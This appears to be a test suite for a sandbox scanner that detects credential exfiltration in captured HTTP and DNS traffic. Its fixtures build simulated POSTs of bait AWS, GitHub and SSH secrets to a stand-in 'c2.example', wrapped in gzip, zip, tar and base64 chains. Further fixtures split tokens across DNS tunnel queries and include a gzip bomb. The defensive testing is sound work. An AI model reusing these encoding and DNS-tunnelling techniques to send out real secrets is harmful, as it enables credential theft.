"""The exfiltration scanner over whole flows: chains of decoders, the issue's four failure modes,
bounded work, errors that never lose a record, and DNS tunnels."""

from __future__ import annotations

import base64
import gzip
import io
import json
import tarfile
import time
import urllib.parse
import zipfile
from collections.abc import Iterator
from typing import Any

import brotli
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from osptrack.sandbox.baits import make_baits
from osptrack.sandbox.exfil import Limits, Scanner, find_tokens, find_tunnels
from osptrack.sandbox.exfil.decoders import Blob

BAITS = make_baits()
TOKENS = BAITS.values()
AWS_ID = TOKENS["aws_access_key_id"]
AWS_SECRET = TOKENS["aws_secret_access_key"]
GITHUB = TOKENS["github_token"]
CREDENTIALS = BAITS.files[".aws/credentials"].encode()
SCANNER = Scanner(TOKENS)


def hits(data: bytes, hints: dict[str, str] | None = None) -> dict[str, str]:
    return {h.kind: h.chain for h in SCANNER.scan(data, hints).hits}


def post(body: bytes, *headers: str) -> bytes:
    head = "".join(f"{h}\r\n" for h in headers)
    return (
        f"POST /up HTTP/1.1\r\nHost: c2.example\r\n{head}Content-Length: {len(body)}\r\n\r\n".encode() + body
    )


def tcp_record(data: bytes) -> dict[str, Any]:
    return {"t": 5.0, "phase": "install", "kind": "tcp", "dst": "198.18.1.1", "dst_port": 80,
            "bytes": len(data), "first_bytes": base64.b64encode(data[:4096]).decode()}  # fmt: skip


def dns_record(qname: str, t: float, qtype: str = "A", phase: str = "install") -> dict[str, Any]:
    return {"t": t, "phase": phase, "kind": "dns", "qname": qname, "qtype": qtype, "server": "198.18.0.53",
            "server_port": 53, "answer": []}  # fmt: skip


# ---------------------------------------------------------------- the four failure modes


def test_clear_secret_beside_non_latin1_percent_escapes() -> None:
    # `%ff`, a UTF-8 euro sign and a NUL decode to bytes that crashed the old text round trip.
    body = b"junk=%ff%fe%e2%82%ac%00&aws=" + AWS_SECRET.encode() + b"&more=%c3%28"
    record = tcp_record(post(body, "Content-Type: application/x-www-form-urlencoded"))
    findings, errors = SCANNER.scan_record(record, post(body))
    assert errors == []
    assert {f["kind"]: f["encoding"] for f in findings}["aws_secret_access_key"] == "raw"
    # The same secret percent-encoded among the undecodable escapes.
    secret = "Zk3+q/Wm9xXyBait0/Value+0Only"
    quoted = b"junk=%ff%fe&aws=" + urllib.parse.quote(secret, safe="").encode()
    assert {h.kind: h.chain for h in Scanner({"s": secret}).scan(post(quoted)).hits} == {"s": "url"}


def test_secret_after_70000_bytes_of_padding() -> None:
    body = b"p=" + b"A" * 70_000 + b"&k=" + AWS_ID.encode()
    stream = post(body)
    assert stream.index(AWS_ID.encode()) > 70_000
    assert hits(stream)["aws_access_key_id"] == "raw"
    findings, _ = SCANNER.scan_record(tcp_record(stream), stream)  # the whole capture, not first_bytes
    assert [f["kind"] for f in findings] == ["aws_access_key_id"]
    # Far beyond 64 KiB, behind a compressed layer too.
    gz = gzip.compress(b"x" * 900_000 + CREDENTIALS)
    assert hits(post(gz, "Content-Encoding: gzip"))["aws_secret_access_key"] == "gzip"


@pytest.mark.parametrize("kind", ["gzip-encoding", "gzip-body", "zip-body", "tar.gz-body", "br-encoding"])
def test_gzip_zip_and_tar_bodies_of_aws_credentials(kind: str) -> None:
    if kind == "gzip-encoding":
        stream, chain = post(gzip.compress(CREDENTIALS), "Content-Encoding: gzip"), "gzip"
    elif kind == "gzip-body":
        stream, chain = post(gzip.compress(CREDENTIALS), "Content-Type: application/octet-stream"), "gzip"
    elif kind == "br-encoding":
        stream, chain = post(brotli.compress(CREDENTIALS), "Content-Encoding: br"), "br"
    elif kind == "zip-body":
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            zf.writestr(".aws/credentials", CREDENTIALS)
        stream, chain = post(buf.getvalue(), "Content-Type: application/zip"), "zip"
    else:
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w:gz") as tf:
            info = tarfile.TarInfo(".aws/credentials")
            info.size = len(CREDENTIALS)
            tf.addfile(info, io.BytesIO(CREDENTIALS))
        # Members are stored in the clear inside the tar: gunzipping alone proves it (shortest chain).
        stream, chain = post(buf.getvalue()), "gzip"
    found = hits(stream)
    assert found["aws_access_key_id"] == chain and found["aws_secret_access_key"] == chain
    assert AWS_SECRET.encode() not in stream  # only decoding proves it


def test_hex_token_split_over_dns_queries_one_chunk_per_query() -> None:
    hexed = GITHUB.encode().hex()
    chunks = [hexed[i : i + 16] for i in range(0, len(hexed), 16)]
    assert len(chunks) >= 4
    records = [dns_record("www.tunnel-c2.example", 0.5)]  # an unrelated name under the same parent
    for i, chunk in enumerate(chunks):
        records += [
            dns_record(f"{chunk}.tunnel-c2.example", 1.0 + i),
            dns_record(f"{chunk}.tunnel-c2.example", 1.0 + i, "AAAA"),
        ]
    # No single query holds the token.
    assert all(f["kind"] != "github_token" for r in records for f in SCANNER.scan_record(r)[0])
    findings, errors = find_tunnels(records, SCANNER)
    (found,) = [f for f in findings if f["kind"] == "github_token"]
    assert errors == []
    assert found["encoding"] == "dns-tunnel>hex" and found["phase"] == "install"
    assert found["flow"]["kind"] == "dns-tunnel" and found["flow"]["parent"] == "tunnel-c2.example"
    assert found["flow"]["qname"] == f"{chunks[-1]}.tunnel-c2.example"
    # find_tokens over finished records reports it too; out of order queries are put back in time order.
    assert any(f["kind"] == "github_token" for f in find_tokens(reversed(records), TOKENS))


def test_dns_tunnels_numbered_base32_and_not_duplicated() -> None:
    b32 = base64.b32encode(AWS_SECRET.encode()).decode().rstrip("=").lower()
    chunks = [b32[i : i + 10] for i in range(0, len(b32), 10)]
    # Sequence numbers in their own label: the label next to the parent is read alone too.
    records = [dns_record(f"{i}.{c}.s1.exfil-dns.example", float(i)) for i, c in enumerate(chunks)]
    (found,) = find_tunnels(records, SCANNER)[0]
    assert found["kind"] == "aws_secret_access_key" and found["encoding"] == "dns-tunnel>base32"
    # A token that one query already carries is that query's finding, not a tunnel's.
    whole = [dns_record(f"{AWS_ID.lower()}.a.example", 1.0), dns_record("x.a.example", 2.0)]
    per_record = [f for r in whole for f in SCANNER.scan_record(r)[0]]
    assert [f["kind"] for f in per_record] == ["aws_access_key_id"]
    assert find_tunnels(whole, SCANNER, per_record)[0] == []
    assert find_tunnels(
        [dns_record("pypi.org", 1.0), dns_record("files.pythonhosted.org", 2.0)], SCANNER
    ) == ([], [])


def test_dns_tunnel_of_a_gzip_chunked_in_hex() -> None:
    hexed = gzip.compress(CREDENTIALS).hex()
    records = [dns_record(f"{hexed[i : i + 60]}.d.example", float(i)) for i in range(0, len(hexed), 60)]
    found = {f["kind"]: f["encoding"] for f in find_tunnels(records, SCANNER)[0]}
    assert found["aws_secret_access_key"] == "dns-tunnel>hex>gzip"


# ---------------------------------------------------------------- chains


def test_chains_name_every_step() -> None:
    secret = AWS_SECRET.encode()
    b64gz = base64.b64encode(gzip.compress(b"k=" + secret))
    assert hits(post(json.dumps({"blob": b64gz.decode()}).encode()))["aws_secret_access_key"] == "base64>gzip"
    assert (
        hits(post(gzip.compress(base64.b64encode(secret)), "Content-Encoding: gzip"))["aws_secret_access_key"]
        == "gzip>base64"
    )
    # JSON that escapes '/' and '+' (both occur in AWS secrets) and everything non-ASCII.
    escaped = json.dumps({"k": AWS_SECRET}).replace("/", "\\/").replace("+", "\\u002b")
    chain = hits(post(escaped.encode()))["aws_secret_access_key"]
    assert chain == "json" or ("/" not in AWS_SECRET and "+" not in AWS_SECRET)
    hexed_zip = io.BytesIO()
    with zipfile.ZipFile(hexed_zip, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("t", GITHUB)
    assert hits(b"data=" + hexed_zip.getvalue().hex().encode())["github_token"] == "hex>zip"
    # quoted-printable cuts long lines with soft breaks ("=\r\n"), here in the middle of the token.
    qp = GITHUB[:10].encode() + b"=\r\n" + GITHUB[10:].encode()
    parts = (
        b'--bnd\r\nContent-Disposition: form-data; name="f"\r\nContent-Transfer-Encoding: quoted-printable'
        b"\r\n\r\n" + qp + b"\r\n--bnd--\r\n"
    )
    assert (
        hits(post(parts, "Content-Type: multipart/form-data; boundary=bnd"))["github_token"] == "multipart>qp"
    )
    assert hits(post(urllib.parse.quote(base64.b64encode(secret)).encode()))["aws_secret_access_key"] in (
        "base64",
        "url>base64",
    )


def test_the_ssh_key_marker_cut_by_a_line_break_is_found_in_the_key_file() -> None:
    key = BAITS.files[".ssh/id_rsa"].encode()
    marker = TOKENS["ssh_private_key"].encode()
    assert marker not in key  # the PEM line breaks cut it
    assert hits(post(key))["ssh_private_key"] == "unwrap"


def test_tokens_found_are_each_reported_once_with_the_flow() -> None:
    stream = post(b"a=" + AWS_ID.encode() + b"&b=" + base64.b64encode(AWS_ID.encode()))
    findings, errors = SCANNER.scan_record(tcp_record(stream), stream)
    assert errors == [] and len(findings) == 1
    assert findings[0] == {"kind": "aws_access_key_id", "phase": "install", "encoding": "raw",
                           "flow": {"kind": "tcp", "dst": "198.18.1.1", "dst_port": 80}, "t": 5.0}  # fmt: skip


def test_no_false_positive_on_benign_traffic() -> None:
    benign = post(
        gzip.compress(json.dumps({"name": "requests", "v": "2.32.3"}).encode() * 50), "Content-Encoding: gzip"
    )
    assert hits(benign) == {}
    assert hits(b"GET /simple/requests/ HTTP/1.1\r\nHost: pypi.org\r\nAccept: */*\r\n\r\n") == {}
    near = AWS_SECRET[:-1]
    assert hits(post(near.encode() + b" " + base64.b64encode(near.encode()))) == {}


# ---------------------------------------------------------------- bounds and errors


def test_work_is_bounded_on_a_tower_of_encodings_and_a_bomb() -> None:
    # base64 of base64 ... eight times deep: the depth limit stops the descent, no error.
    blob = CREDENTIALS
    for _ in range(8):
        blob = base64.b64encode(blob)
    result = SCANNER.scan(blob)
    assert result.errors == () and "aws_secret_access_key" not in {h.kind for h in result.hits}
    shallow = CREDENTIALS
    for _ in range(4):
        shallow = base64.b64encode(shallow)
    assert hits(shallow)["aws_secret_access_key"] == "base64>base64>base64>base64"
    # A zip of gzip bombs: the derived-bytes budget ends it.
    buf = io.BytesIO()
    bomb = gzip.compress(b"\0" * (16 << 20), compresslevel=1)
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for i in range(20):
            zf.writestr(f"b{i}.gz", bomb)
    t0 = time.monotonic()
    result = SCANNER.scan(post(buf.getvalue()))
    assert result.exhausted and result.derived <= Limits().derived_bytes
    assert (
        time.monotonic() - t0 < 60
    )  # generous: a loaded 2-core machine; benchmarks/exfil.py has the figures


class _Broken:
    name = "broken"

    def decode(self, blob: Blob, cap: int) -> Iterator[Blob]:
        yield blob.child(b"first " + AWS_ID.encode(), "broken")
        raise UnicodeEncodeError("latin-1", "\u20ac", 0, 1, "the old crash")


def test_a_decoder_error_is_a_reason_and_the_scan_goes_on() -> None:
    scanner = Scanner(TOKENS, decoders=(_Broken(), *SCANNER.decoders))
    stream = post(gzip.compress(CREDENTIALS), "Content-Encoding: gzip")
    findings, errors = scanner.scan_record(tcp_record(stream), stream)
    assert "exfil/broken: UnicodeEncodeError" in errors
    kinds = {f["kind"]: f["encoding"] for f in findings}
    assert kinds["aws_access_key_id"] == "broken" and kinds["aws_secret_access_key"] == "gzip"


def test_a_record_that_cannot_be_read_is_an_error_not_an_exception() -> None:
    findings, errors = SCANNER.scan_record({"kind": "tcp", "first_bytes": "not base64!"})
    assert findings == [] and errors == ["exfil/record: Error"]
    assert SCANNER.scan_record({"kind": "dns", "qname": None}) == ([], [])
    assert Scanner({}).scan(b"anything").hits == ()


# ---------------------------------------------------------------- properties


hint_values = st.sampled_from(
    ["gzip", "br", "deflate", "gzip, br", "identity", "x-gzip", "bogus", "", "\xff"]
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    data=st.binary(max_size=4096),
    encoding=hint_values,
    ctype=st.sampled_from(["", "multipart/form-data; boundary=x", 'multipart/mixed; boundary="\xff"']),
)
def test_never_raises_on_arbitrary_bytes(data: bytes, encoding: str, ctype: str) -> None:
    result = SCANNER.scan(data, {"content-encoding": encoding, "content-type": ctype})
    assert result.errors == ()
    findings, errors = SCANNER.scan_record(tcp_record(data), data)
    assert errors == [] and all(f["kind"] in TOKENS for f in findings)


@settings(max_examples=150, deadline=None)
@given(
    prefix=st.binary(max_size=300),
    suffix=st.binary(max_size=300),
    kind=st.sampled_from(sorted(TOKENS)),
    wrap=st.sampled_from(["raw", "base64", "urlsafe", "hex", "gzip", "url"]),
)
def test_a_token_survives_any_surrounding_bytes(prefix: bytes, suffix: bytes, kind: str, wrap: str) -> None:
    token = TOKENS[kind].encode()
    encoded = {
        "raw": token,
        "base64": base64.b64encode(b"k=" + token),
        "urlsafe": base64.urlsafe_b64encode(token),
        "hex": token.hex().encode(),
        "gzip": gzip.compress(token),
        "url": urllib.parse.quote(token, safe="").encode(),
    }[wrap]
    assert kind in hits(prefix + encoded + suffix)


@settings(max_examples=40, deadline=None)
@given(names=st.lists(st.from_regex(r"[a-z0-9-]{1,20}(\.[a-z0-9-]{1,20}){0,5}", fullmatch=True), max_size=40))
def test_tunnel_reassembly_never_raises(names: list[str]) -> None:
    records = [dns_record(n, float(i)) for i, n in enumerate(names)]
    findings, errors = find_tunnels(records, SCANNER)
    assert errors == [] and all(f["flow"]["kind"] == "dns-tunnel" for f in findings)
